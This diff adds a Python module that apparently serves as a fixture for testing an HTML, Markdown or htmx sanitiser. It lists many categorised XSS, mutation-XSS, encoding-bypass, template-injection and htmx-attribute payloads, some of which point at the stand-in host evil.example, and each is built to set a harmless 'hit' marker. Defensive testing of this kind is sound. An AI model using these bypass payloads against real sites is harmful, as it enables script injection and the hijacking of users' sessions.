@@ -1,0 +1,110 @@
+"""What people with bad intentions write into fields: by the place it tries to break out of.
+
+Each would set `hit`, ask for an address with "hit" in it, or leave an element, if anything took it for more than text.
+"""
+from __future__ import annotations
+
+PAYLOADS: dict[str, list[str]] = {
+    "elements": [
+        '<script>hit=1</script>', '<script src=/hit.js></script>', '<script src=//evil.example/hit.js></script>', '<script type=module>hit=1</script>',
+        '<SCRIPT>hit=1</SCRIPT>', '<scr<script>ipt>hit=1</scr</script>ipt>', '<script/x>hit=1</script>', '<script\n>hit=1</script\n>',
+        '</script><script>hit=1</script>', '<img src=x onerror=hit=1>', '<img src=/hit>', '<img/src=x/onerror=hit=1>', '<IMG SRC=x ONERROR=hit=1>',
+        '<img src=x onerror="hit=1"', '<img src=x:x onerror=hit=1 //', '<image src=x onerror=hit=1>', '<img srcset=/hit>', '<input autofocus onfocus=hit=1>',
+        '<select autofocus onfocus=hit=1>', '<textarea autofocus onfocus=hit=1>', '<button autofocus onfocus=hit=1>x</button>',
+        '<a href=# autofocus onfocus=hit=1>x</a>', '<body onload=hit=1>', '<iframe src=/hit></iframe>',
+        "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>", '<iframe onload=hit=1></iframe>', '<frameset onload=hit=1>',
+        '<object data=/hit></object>', '<embed src=/hit>', '<video src=x onerror=hit=1></video>', '<video><source onerror=hit=1></video>',
+        '<audio src=x onerror=hit=1>', '<video poster=/hit>', '<details open ontoggle=hit=1>x</details>', '<marquee onstart=hit=1>x</marquee>',
+        '<link rel=stylesheet href=/hit.css>', '<link rel=prefetch href=/hit>', '<base href=//evil.example/>',
+        "<meta http-equiv=refresh content='0;url=/hit'>", '<form action=/hit><input name=a></form>', '<isindex action=/hit>',
+        '<dialog open onclose=hit=1>x</dialog>', '<p onclick=hit=1>x</p>', '<div onpointerenter=hit=1>x</div>', '<x onfocus=hit=1 tabindex=1 autofocus>',
+        '<template><b>hit</b></template>', '<slot onslotchange=hit=1>', '<plaintext>hit', "<noscript><p title='</noscript><img src=x onerror=hit=1>'>",
+        '<keygen autofocus onfocus=hit=1>', '<!--><img src=x onerror=hit=1>-->', '<b onbeforeinput=hit=1 contenteditable>x</b>',
+        '<div popover id=hit onbeforetoggle=hit=1>x</div>', '<portal src=/hit>', "<object data='data:text/html,<script>parent.hit=1</script>'>",
+    ],
+    "attributes": [
+        '" onmouseover="hit=1', "' onmouseover='hit=1", '" autofocus onfocus="hit=1', '` onfocus=`hit=1', '"><img src=x onerror=hit=1>',
+        "'><img src=x onerror=hit=1>", '" onerror=hit=1 src="x', '"/onload=hit=1/x="', '" style="background:url(/hit)',
+        '" srcdoc="<script>parent.hit=1</script>', '" formaction="/hit', '"><script>hit=1</script>', '\\" onfocus=hit=1 autofocus \\"',
+        '" accesskey="x" onclick="hit=1', 'x onfocus=hit=1 autofocus', '"\nonfocus="hit=1"\nautofocus x="', '"\tonfocus="hit=1', '&quot; onfocus=&quot;hit=1',
+        '" id="content" class="hit', '" name="getElementById',
+    ],
+    "addresses": [
+        'javascript:hit=1', 'JaVaScRiPt:hit=1', 'java\tscript:hit=1', 'java\nscript:hit=1', ' javascript:hit=1', 'javascript://contoh.id/%0ahit=1',
+        'javascript:/*--></title>*/hit=1', 'data:text/html,<script>hit=1</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==',
+        'data:image/svg+xml,<svg onload=hit=1>', 'vbscript:hit=1', 'view-source:/hit', '//evil.example/hit', '\\\\evil.example/hit', '/\\evil.example/hit',
+        'http://evil.example/hit" onclick="hit=1', "https://evil.example/hit'><script>hit=1</script>", 'blob:hit', 'filesystem:hit', 'feed:javascript:hit=1',
+        'jar:javascript:hit=1', 'javascript&colon;hit=1', 'javascript&#58;hit=1', '&#106;avascript:hit=1', '&#x6A&#x61vascript:hit=1',
+        'http:javascript:hit=1', 'https://bank.id@evil.example/hit', 'javascript:hit=1//https://contoh.id', 'mocha:hit=1', 'httpjavascript:hit=1',
+    ],
+    "Markdown": [
+        '[x](javascript:hit=1)', '[x](JaVaScRiPt:hit=1)', '[x](java&#x73;cript:hit=1)', '[x](data:text/html,<script>hit=1</script>)',
+        '[x](<javascript:hit=1>)', '<javascript:hit=1>', '![x](/hit)', '![x](https://evil.example/hit)', '![x](x"onerror="hit=1)',
+        '[x](https://a.b "t" onclick=hit=1)', '[x](https://a.b \'x" onclick="hit=1\')', '[x]: javascript:hit=1\n\n[x]', '[a](https://a.b"onmouseover=hit=1)',
+        '`<img src=x onerror=hit=1>`', '```html onload=hit=1\n<script>hit=1</script>\n```', '> <img src=x onerror=hit=1>', '- <svg onload=hit=1>',
+        '**<b onclick=hit=1>x</b>**', '<https://a.b/"onclick=hit=1>', 'https://a.b/<script>hit=1</script>', 'a@b.co"onclick=hit=1',
+        '[<img src=x onerror=hit=1>](https://a.b)', '[x][y]\n\n[y]: vbscript:hit=1', '\\<script>hit=1</script>', '&lt;script&gt;hit=1&lt;/script&gt;',
+        '[x](https://a.b\n"onclick=hit=1)', '[*x](https://a.b "</a><script>hit=1</script>")', '1. <x hx-get=/hit>',
+    ],
+    "SVG and MathML": [
+        '<svg onload=hit=1>', '<svg><script>hit=1</script></svg>', '<svg><script href=/hit.js /></svg>',
+        '<svg><a href=javascript:hit=1><text y=9>x</text></a></svg>', '<svg><animate onbegin=hit=1 attributeName=x dur=1s>',
+        '<svg><set onbegin=hit=1 attributename=x>', "<svg><use href='data:image/svg+xml,<svg id=x onload=hit=1>#x'/></svg>",
+        '<svg><foreignObject><img src=x onerror=hit=1></foreignObject></svg>', '<svg><image href=/hit />', "<svg><style>@import '/hit'</style></svg>",
+        '<svg><title><img src=x onerror=hit=1></title></svg>', '<math><mtext><img src=x onerror=hit=1></mtext></math>',
+        '<math href=javascript:hit=1>x</math>', '<math><maction actiontype=statusline xlink:href=javascript:hit=1>x</maction></math>', '<svg/onload=hit=1//',
+        '<svg><discard onbegin=hit=1>', '<svg><animate href=#x attributeName=href to=javascript:hit=1 />',
+    ],
+    "changing when parsed": [
+        '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=hit=1>">',
+        '<svg></p><style><a id="</style><img src=x onerror=hit=1>">', '<noscript><style></noscript><img src=x onerror=hit=1>',
+        '<table><td><form><td><a title="</form><img src=x onerror=hit=1>">', '<listing>&lt;img src=x onerror=hit=1&gt;</listing>',
+        "<xmp><p title='</xmp><img src=x onerror=hit=1>'></xmp>", '<a><b><a title="<img src=x onerror=hit=1>">',
+        '<select><template><img src=x onerror=hit=1></template></select>', "<title><p title='</title><img src=x onerror=hit=1>'>",
+        "<textarea><p title='</textarea><img src=x onerror=hit=1>'>", '<!-- --!><img src=x onerror=hit=1> -->', '<![CDATA[<img src=x onerror=hit=1>]]>',
+        '<?xml ?><img src=x onerror=hit=1>', '</p><img src=x onerror=hit=1>', '<<img src=x onerror=hit=1>>', "<img src='x' alt='`onerror=hit=1`'>",
+        "<style><img src='</style><img src=x onerror=hit=1>'>",
+    ],
+    "templates": [
+        '{{ hit }}', '{{ 7*7 }}', "{{ ''.__class__.__mro__ }}", "{% include '/hit' %}", '{{ config.items() }}', '${hit=1}', '#{hit=1}',
+        "{{constructor.constructor('hit=1')()}}", '<%= hit %>', '{n}', '{name.__class__}', '%(n)s', '%s%n', '{0}', '{{', '[a|b]',
+        "{{'<script>hit=1</script>'|safe}}",
+    ],
+    "signs": [
+        '\u02bascript\u02ba>hit=1', '\uff1cscript\uff1ehit=1\uff1c/script\uff1e', '\u2039script\u203ahit=1', '+ADw-script+AD4-hit=1+ADw-/script+AD4-',
+        '<img\xa0src=x\xa0onerror=hit=1>', '<img src=x\u2028onerror=hit=1>', '\u2028hit=1\u2029', '\u212a<img src=x onerror=hit=1>',
+        '<\u017fcript>hit=1</\u017fcript>', '\ufeff<script>hit=1</script>', '<img src=x onerror\u200b=hit=1>', '\xbcscript\xbehit=1',
+        'e\u0301\u0323<b onclick=hit=1>', '\u0130<img src=x onerror=hit=1>', '\U000e003cscript\U000e003e',
+    ],
+    "entities": [
+        '&lt;script&gt;hit=1&lt;/script&gt;', '&#60;script&#62;hit=1&#60;/script&#62;', '&#x3c;img src=x onerror=hit=1&#x3e;', '&amp;lt;script&amp;gt;hit=1',
+        '&LT;script&GT;hit=1', '&lt;img src=x onerror=hit=1&gt;', '%3Cscript%3Ehit=1%3C/script%3E', '%253Cscript%253Ehit=1', '\\x3cscript\\x3ehit=1',
+        '\\u003cscript\\u003ehit=1', '&#0000060script>hit=1', '&#x00003Cscript>hit=1', '&quot;&#39;&gt;<hit>',
+    ],
+    "htmx": [
+        '<div hx-get=/hit hx-trigger=load>x</div>', '<div data-hx-get=/hit data-hx-trigger=load>x</div>', '<div hx-post=/sign-out hx-trigger=load>x</div>',
+        '<div hx-on:click=hit=1>x</div>', '<div hx-on:htmx:load=hit=1>x</div>', '<div hx-on--load=hit=1>x</div>', '<div data-hx-on:load=hit=1>x</div>',
+        "<div hx-vals='js:{a:hit=1}' hx-get=/hit hx-trigger=load>", "<div hx-vars='a:hit=1' hx-get=/hit hx-trigger=load>",
+        "<div hx-headers='js:{a:hit=1}' hx-get=/hit hx-trigger=load>", "<div hx-trigger='load[hit=1]' hx-get=/hit>",
+        '<div hx-ext=sse sse-connect=/hit sse-swap=x>', '<div hx-sse:connect=/hit>', "<div hx-ws='connect:/hit'>",
+        '<div hx-boost=true><a href=/hit>x</a></div>', '<div hx-swap-oob=true id=content>hit</div>',
+        '<template hx-swap-oob=innerHTML:#content>hit</template>', '<hx-partial hx-target=#content>hit</hx-partial>',
+        '<div hx-config=\'{"selfRequestsOnly":false}\' hx-get=//evil.example/hit hx-trigger=load>', '<div hx-confirm=hit hx-delete=/hit hx-trigger=load>',
+        '<div hx-select-oob=#content hx-get=/hit hx-trigger=load>', '<div hx-action=/hit hx-method=post hx-trigger=load>',
+        '<form hx-put=/hit hx-trigger=load></form>', '<button hx-patch=/hit hx-trigger=revealed>x</button>',
+        '<div hx-optimistic=#content hx-get=/hit hx-trigger=load>', '<div hx-preload=/hit hx-get=/hit>', '" hx-get="/hit" hx-trigger="load" x="',
+        "' hx-get='/hit' hx-trigger='load' x='", '" data-hx-on:load="hit=1" x="', '<meta name=htmx-config content=\'{"inlineScriptNonce":"x"}\'>',
+        'event: message\ndata: <img src=x onerror=hit=1>\n\n',
+    ],
+    "styles": [
+        '<style>*{background:url(/hit)}</style>', "<style>@import '/hit.css';</style>", "<b style='background:url(/hit)'>x</b>",
+        '<b style="width:expression(hit=1)">x</b>', '</style><script>hit=1</script>', '<link rel=stylesheet href=data:text/css,*%7Bcolor:red%7D>',
+        "<b style='position:fixed;inset:0'>hit</b>", 'x;background:url(/hit)', '*/</style><img src=x onerror=hit=1>/*',
+        '<div style=animation-name:x onanimationstart=hit=1>',
+    ],
+    "scripts": [
+        "';hit=1;//", '";hit=1;//', '`;hit=1;//', '</script><img src=x onerror=hit=1>', '-hit=1-', "'-(hit=1)-'", "\\';hit=1;//", '${hit=1}`', '*/hit=1/*',
+        '}hit=1;{',
+    ],
+}
+ALL = list(dict.fromkeys(payload for kind in PAYLOADS.values() for payload in kind))
